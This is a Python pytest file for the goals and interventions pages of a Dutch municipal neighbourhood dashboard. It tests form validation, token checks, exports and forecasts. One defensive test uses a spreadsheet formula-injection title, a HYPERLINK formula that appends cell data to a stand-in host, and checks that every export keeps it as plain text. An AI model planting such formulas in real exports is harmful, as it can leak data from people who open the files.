"""The goals pages in-process: forms with validation, nothing stored on error, data formats, export."""

from __future__ import annotations

import html
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
import yaml
from fastapi.testclient import TestClient
from httpx import Response

from conftest import csv_rows, stores
from wijkradar.goals import import_goals
from wijkradar.warehouse import Warehouse
from wijkradar.web.app import create_app

THREE = ["BU00340211", "BU00340212", "BU00340202"]
PAGE = "/gemeente/GM0034/doelen"


@pytest.fixture
def db(web_db: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "web-goals.duckdb"
    shutil.copy(web_db, copy)
    return copy


@pytest.fixture
def client(db: Path) -> Iterator[TestClient]:
    with TestClient(create_app(db, editable=True)) as test_client:
        yield test_client


def _token(client: TestClient) -> str:
    match = re.search(r'name="_token" value="([^"]+)"', client.get(PAGE).text)
    assert match, "the goals page carries a form token"
    return match.group(1)


def _goal(client: TestClient, **fields: object) -> Response:
    form: dict[str, object] = {
        "_token": _token(client),
        "thema": "eenzaamheid",
        "target_value": "44,0",
        "target_year": "2026",
        "baseline_period": "2016",  # progress to measure: 2016 -> 2020
    }
    form.update({k: v for k, v in fields.items() if v is not None})
    response: Response = client.post(PAGE, data=form, follow_redirects=False)
    return response


def _count(client: TestClient) -> tuple[int, int]:
    data = client.get(f"{PAGE}.json").json()
    return len(data["goals"]), len(data["interventions"])


def test_empty_page_has_both_forms_and_the_status_rule(client: TestClient) -> None:
    page = client.get(PAGE)
    assert page.status_code == 200 and "Nieuw doel" in page.text and "Nieuwe interventie" in page.text
    assert (
        "Nog geen doelen vastgelegd" in page.text
        and "Op koers: de vooruitgang sinds de nulmeting" in page.text
    )
    assert 'value="BU00340211"' in page.text  # buurten to choose as area
    assert "Wat werkt? Eenzaamheid onder 65-plussers" in page.text


def test_goal_from_form_is_stored_measured_and_shown(client: TestClient) -> None:
    response = _goal(client, title="Minder eenzame 65-plussers", owner="wethouder Zorg")
    assert response.status_code == 303
    assert response.headers["location"].startswith(f"{PAGE}?thema=eenzaamheid&opgeslagen=doel")
    page = client.get(response.headers["location"])
    assert "Het doel is opgeslagen." in page.text and "Minder eenzame 65-plussers" in page.text
    goal = client.get(f"{PAGE}.json").json()["goals"][0]
    assert (
        goal["target_value"] == 44.0 and goal["baseline_period"] == "2016" and goal["baseline_value"] == 47.3
    )
    # Only a buurt model exists here, so the margin is bounded by the buurten's and says so: 48,2% in
    # 2020 lags the required 46,0 by 2,2, within u; the rise of 0,9 is no progress either -> risico.
    later = goal["progress"]["points"][1]
    assert later["value"] == 48.2 and later["required"] == pytest.approx(45.98) and later["u"] > 2.22
    assert "bovengrens uit 65 buurten" in later["note"]  # 67, two with too few 65-plussers
    assert goal["progress"]["status"] == "at_risk"
    rows = csv_rows(client.get(f"{PAGE}.csv").text)
    assert [r["periode"] for r in rows] == ["2016", "2020"] and rows[1]["status"] == "risico"


def test_a_new_goal_starts_from_the_latest_round_and_its_direction_must_fit(client: TestClient) -> None:
    response = _goal(client, baseline_period="", target_value="45", title="Vanaf nu")
    assert response.status_code == 303, response.text[-600:]
    goal = client.get(f"{PAGE}.json").json()["goals"][0]
    assert goal["baseline_period"] == "2020" and goal["baseline_value"] == 48.2
    assert goal["progress"]["explanation"] == "Er is nog geen meting na de nulmeting, dus: onbekend."
    refused = _goal(client, baseline_period="", target_value="60", direction="down", title="Omlaag naar 60")
    text = html.unescape(refused.text)
    assert refused.status_code == 422
    assert "Richting omlaag past niet bij streefwaarde 60: de nulmeting 2020 is 48,2" in text
    assert "kies een streefwaarde onder 48,2, of de andere richting" in text
    assert len(client.get(f"{PAGE}.json").json()["goals"]) == 1


def test_the_status_is_explained_with_the_goals_own_numbers(client: TestClient) -> None:
    assert _goal(client, title="Uitleg").status_code == 303
    goal = client.get(f"{PAGE}.json").json()["goals"][0]
    explanation = goal["progress"]["explanation"]
    assert explanation.startswith(
        "De laatste meting (2020: 48,2) ligt 2,2 punt boven het pad naar het doel (46,0)"
    )
    assert explanation.endswith("dus: risico.") and explanation in client.get(PAGE).text


def test_named_set_of_buurten_is_weighted_and_says_so(client: TestClient) -> None:
    response = _goal(client, area=THREE, area_name="Wijkteam Stad", target_value="45")
    assert response.status_code == 303
    goal = client.get(f"{PAGE}.json").json()["goals"][0]
    assert goal["area_codes"] == THREE and goal["area_name"] == "Wijkteam Stad"
    assert "gewogen naar inwoners" in goal["progress"]["points"][0]["note"]


@pytest.mark.parametrize(
    ("fields", "field", "text"),
    [
        ({"target_year": "2010"}, "target_year", "ligt niet na de nulmeting"),
        ({"target_value": "veel"}, "target_value", "Streefwaarde is geen getal"),
        ({"target_value": ""}, "target_value", "Streefwaarde ontbreekt"),
        ({"target_value": "1e308"}, "target_value", "Streefwaarde is buiten bereik"),
        (
            {"thema": "", "measure_id": "Eenzaam_99", "population_group": "65+"},
            "measure_id",
            "Onbekende maat",
        ),
        ({"thema": "", "measure_id": "Eenzaam_28"}, "population_group", "hoort een groep"),
        ({"area": ["BU03630000"]}, "area", "buiten gemeente"),
        ({"baseline_period": "2012"}, "baseline_period", "bestaat niet"),
    ],
)
def test_invalid_goal_is_refused_with_the_field_named_and_nothing_stored(
    client: TestClient, fields: dict[str, object], field: str, text: str
) -> None:
    response = _goal(client, title="Bewaard bij een fout", **fields)
    assert response.status_code == 422
    assert "Niet opgeslagen." in response.text and text in response.text
    assert f'id="doel-{field}"' in response.text and f'href="#doel-{field}"' in response.text
    assert 'aria-invalid="true"' in response.text or field == "area"
    assert 'value="Bewaard bij een fout"' in response.text  # what was typed is kept
    assert _count(client) == (0, 0)


def test_intervention_links_goals_and_deleting_a_goal_unlinks_it(client: TestClient) -> None:
    _goal(client, title="Doel A")
    goal_id = client.get(f"{PAGE}.json").json()["goals"][0]["goal_id"]
    form = {
        "_token": _token(client),
        "title": "Buurtkamers",
        "theme": "eenzaamheid",
        "area": THREE[:2],
        "start": "2021-01-01",
        "budget": "125.000",
        "goal_ids": [str(goal_id)],
    }
    assert client.post("/gemeente/GM0034/interventies", data=form, follow_redirects=False).status_code == 303
    data = client.get(f"{PAGE}.json").json()
    assert data["interventions"][0]["budget"] == 125000.0
    assert data["interventions"][0]["goal_ids"] == [goal_id]
    assert data["goals"][0]["interventions"][0]["title"] == "Buurtkamers"
    rows = csv_rows(client.get("/gemeente/GM0034/interventies.csv").text)
    assert rows[0]["titel"] == "Buurtkamers" and rows[0]["budget"] == "125000"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", rows[0]["start"])  # a date, not "2024-03-01 00:00:00"

    wrong = client.post(
        "/gemeente/GM0034/interventies",
        data={**form, "title": "Te vroeg klaar", "end": "2020-01-01"},
        follow_redirects=False,
    )
    assert wrong.status_code == 422 and "einddatum ligt voor de startdatum" in wrong.text.lower()
    nameless = client.post(
        "/gemeente/GM0034/interventies", data={**form, "title": ""}, follow_redirects=False
    )
    assert nameless.status_code == 422 and "naam nodig" in nameless.text
    assert _count(client) == (1, 1)

    deleted = client.post(
        f"{PAGE}/{goal_id}/verwijderen", data={"_token": _token(client)}, follow_redirects=False
    )
    assert deleted.status_code == 303
    data = client.get(f"{PAGE}.json").json()
    assert data["goals"] == [] and data["interventions"][0]["goal_ids"] == []
    intervention = data["interventions"][0]["intervention_id"]
    client.post(f"/gemeente/GM0034/interventies/{intervention}/verwijderen", data={"_token": _token(client)})
    assert _count(client) == (0, 0)


def test_forms_without_the_token_are_refused(client: TestClient) -> None:
    response = client.post(
        PAGE,
        data={"thema": "eenzaamheid", "target_value": "44", "target_year": "2026"},
        follow_redirects=False,
    )
    assert response.status_code == 403 and "komt niet van deze site" in response.text
    assert _count(client) == (0, 0)


def test_export_downloads_round_trip_through_the_cli_format(client: TestClient, db: Path) -> None:
    _goal(client, title="Doel A", area=THREE, area_name="Wijkteam Stad")
    exported = client.get(f"{PAGE}.yaml")
    assert exported.status_code == 200 and "attachment" in exported.headers["content-disposition"]
    plan = yaml.safe_load(exported.text)
    assert plan["gemeente"] == "GM0034" and plan["goals"][0]["area_codes"] == THREE
    workbook = client.get(f"{PAGE}.xlsx")
    assert workbook.status_code == 200 and workbook.content[:2] == b"PK"


def test_goals_survive_a_restart_of_the_server(db: Path) -> None:
    with TestClient(create_app(db, editable=True)) as first:
        assert _goal(first, title="Blijft bestaan").status_code == 303
    with stores(db) as (_wh, own):
        assert pd.DataFrame(own.goals())["title"].tolist() == ["Blijft bestaan"]
    with TestClient(create_app(db)) as again:
        assert "Blijft bestaan" in again.get(PAGE).text


def test_read_only_server_shows_goals_but_no_forms(db: Path) -> None:
    with TestClient(create_app(db)) as client:
        page = client.get(PAGE)
        assert page.status_code == 200 and "alleen-lezen" in page.text and "Nieuw doel" not in page.text
        refused = client.post(PAGE, data={"thema": "eenzaamheid"}, follow_redirects=False)
        assert refused.status_code == 403


def test_unknown_gemeente_and_goal(client: TestClient) -> None:
    assert client.get("/gemeente/GM9999/doelen").status_code == 404
    assert client.get("/gemeente/GM9999/doelen.json").status_code == 404
    gone = client.post(f"{PAGE}/999/verwijderen", data={"_token": _token(client)}, follow_redirects=False)
    assert gone.status_code == 422 and "Onbekende doel-id" in gone.text


def test_goal_can_be_edited_through_the_prefilled_form(client: TestClient) -> None:
    _goal(client, title="Wijkteam Stad", area=THREE, area_name="Wijkteam Stad", target_value="45")
    goal_id = client.get(f"{PAGE}.json").json()["goals"][0]["goal_id"]
    form_page = client.get(PAGE, params={"bewerk": goal_id})
    assert "Doel bewerken: Wijkteam Stad" in form_page.text and f'action="{PAGE}/{goal_id}"' in form_page.text
    assert 'name="target_value" value="45"' in form_page.text
    assert all(f'value="{code}" checked' in form_page.text for code in THREE)
    form = {
        "_token": _token(client),
        "title": "Wijkteam Stad",
        "thema": "eenzaamheid",
        "area": THREE[:2],
        "area_name": "Wijkteam Stad (klein)",
        "target_value": "44,5",
        "target_year": "2028",
        "description": "",
    }
    wrong = client.post(f"{PAGE}/{goal_id}", data={**form, "target_year": "2000"}, follow_redirects=False)
    assert (
        wrong.status_code == 422
        and "Doel bewerken" in wrong.text
        and "ligt niet na de nulmeting" in wrong.text
    )
    assert client.post(f"{PAGE}/{goal_id}", data=form, follow_redirects=False).status_code == 303
    goals = client.get(f"{PAGE}.json").json()["goals"]
    assert len(goals) == 1 and goals[0]["goal_id"] == goal_id
    assert goals[0]["area_codes"] == THREE[:2] and goals[0]["target_value"] == 44.5
    assert goals[0]["target_year"] == 2028 and goals[0]["area_name"] == "Wijkteam Stad (klein)"
    assert client.get(PAGE, params={"bewerk": 999}).status_code == 404


def test_a_title_like_a_formula_stays_text_in_every_export(
    client: TestClient, db: Path, tmp_path: Path
) -> None:
    import openpyxl

    title = '=HYPERLINK("http://example.invalid/?d="&A1,"klik")'
    assert _goal(client, title=title).status_code == 303
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"{PAGE}.xlsx").content))["doelen"]
    cell = next(c for c in sheet[2] if c.value == title)
    assert cell.data_type == "s"  # a text cell: Excel shows the text and runs nothing
    rows = csv_rows(client.get(f"{PAGE}.csv").text)
    assert rows and all(r["titel"] == "'" + title for r in rows)
    exported = tmp_path / "plan.xlsx"
    exported.write_bytes(client.get(f"{PAGE}.xlsx").content)
    with stores(db) as (wh, own):  # the text cell reads back as the same title
        assert import_goals(wh, own, "GM0034", exported) == {"goals": 1, "interventions": 0}
        assert [g["title"] for g in own.goals("GM0034")] == [title]


def _with_forecasts(db: Path, shift: float) -> None:
    """Store the buurt model again with prognoses for 2024 (its 2020 estimates plus ``shift``).

    The staged forty-gemeente data hold no Kerncijfers after 2020, so training makes none here; the
    training side is tested on the national data (test_models). This checks how they are shown.
    """
    with Warehouse.open(db) as wh:
        stored = wh.models.get("Eenzaam_28", "65+", "buurt")
        assert stored is not None
        estimates = wh.models.estimates(int(stored["model_id"]))
        later = estimates[["region_code", "estimate", "lower", "upper"]].copy()
        later[["estimate", "lower", "upper"]] += shift
        later["period"] = "2024"
        later["kerncijfers"] = "2017,2020"  # nothing newer for these buurten: the pages must say so
        wh.models.save({**stored, "card": {**stored["card"], "forecast_periods": ["2024"]}}, estimates, later)


def test_a_prognose_is_shown_beside_the_measurements_and_never_counts_as_one(db: Path) -> None:
    _with_forecasts(db, -6.0)  # far below the path: were it a measurement, the goal would be on track
    with TestClient(create_app(db, editable=True)) as client:
        assert _goal(client, title="Minder eenzaam", area=THREE).status_code == 303
        goal = client.get(f"{PAGE}.json").json()["goals"][0]
        progress = goal["progress"]
        assert [p["period"] for p in progress["points"]] == ["2016", "2020"]
        assert progress["status"] == "at_risk" and "2024" not in progress["explanation"]
        forecast = progress["forecast"]
        assert forecast["period"] == "2024" and forecast["halfwidth"] > 0 and "3 buurten" in forecast["note"]
        assert "uit Kerncijfers 2017 en 2020" in forecast["note"]
        page = html.unescape(client.get(PAGE).text)
        assert "Prognose 2024:" in page and "telt niet mee voor de status" in page
        assert "prognose (model, geen meting)" in page  # the chart's own trace
        overview = client.get("/gemeente/GM0034.json").json()["areas"]
        assert overview["period"] == "2020" and overview["forecast_period"] == "2024"
        row = next(r for r in overview["rows"] if r["code"] == THREE[0])
        assert row["value"] == row["survey"] and row["forecast"] == pytest.approx(row["estimate"] - 6.0)
        shown = html.unescape(client.get("/gemeente/GM0034").text)
        assert "Prognose 2024 (model, geen peiling)" in shown
        # Where the prognose comes from: the newest Kerncijfers there are (2020), not "those of 2024".
        assert overview["forecast_inputs"] == "2017 en 2020"
        assert "de nieuwste Kerncijfers die er voor deze gebieden zijn (van 2017 en 2020)" in shown
        assert "Kerncijfers van 2024" not in shown
        listed = client.get("/gemeente/GM0034/prioriteit.json").json()
        assert listed["forecast_period"] == "2024" and all("forecast" in r for r in listed["rows"])
        assert listed["forecast_inputs"] == "2017 en 2020"
        assert {r["forecast_inputs"] for r in listed["rows"] if r["forecast"] is not None} == {"2017 en 2020"}
        ranked = [r["code"] for r in listed["rows"]]
        _with_forecasts(db, 0.0)  # the ranking stays on the survey year, whatever the prognose
        assert "Prognose 2024" in html.unescape(client.get("/gemeente/GM0034/prioriteit").text)
    with TestClient(create_app(db)) as again:
        assert [r["code"] for r in again.get("/gemeente/GM0034/prioriteit.json").json()["rows"]] == ranked
        profile = again.get(f"/regio/{THREE[0]}.json").json()
        assert profile["estimates"][0]["prognoses"][0]["period"] == "2024"
        assert profile["estimates"][0]["prognoses"][0]["kerncijfers"] == "2017 en 2020"
        assert "uit Kerncijfers 2017 en 2020" in html.unescape(again.get(f"/regio/{THREE[0]}").text)


def test_the_intervention_page_the_goals_page_and_the_export_show_the_effect(
    web_db: Path, tmp_path: Path
) -> None:
    """Issue 28: the plan's intervention started in 2017, between the 2016 and 2020 rounds."""
    from conftest import with_a_plan

    with TestClient(create_app(with_a_plan(web_db, tmp_path))) as client:
        page = client.get("/gemeente/GM0034/interventies/1")
        assert page.status_code == 200
        text = re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", page.text)))
        assert re.search(
            r"Zonder de aanpak verwacht \d+,\d%, gemeten \d+,\d%: \d+,\d punt (lager|hoger)", text
        )
        assert "90%-interval komt uit 2 000 placebo's" in text and "Kleinste effect dat met 3 buurten" in text
        found = client.get("/gemeente/GM0034/interventies/1.json").json()
        effect = found["effect"]
        assert effect["status"] == "estimated" and effect["lower90"] < effect["effect"] < effect["upper90"]
        assert {"observed", "expected", "minimal_detectable_effect", "placebo_coverage90"} <= set(effect)
        assert [g["goal_id"] for g in found["goals"]] == [1, 2] and found["goals"][0]["effect"]["text"]
        goals = client.get("/gemeente/GM0034/doelen?thema=eenzaamheid").text
        assert goals.count("Zonder de aanpak verwacht") >= 2  # in both goals the intervention serves
        assert "Gemeten effect op eenzaamheid onder 65-plussers" in goals
        rows = csv_rows(client.get("/gemeente/GM0034/interventies.csv").text)
        assert rows[0]["effect"] == effect["short"] and rows[0]["zonder aanpak verwacht"]
        assert client.get("/gemeente/GM0034/interventies/7").status_code == 404
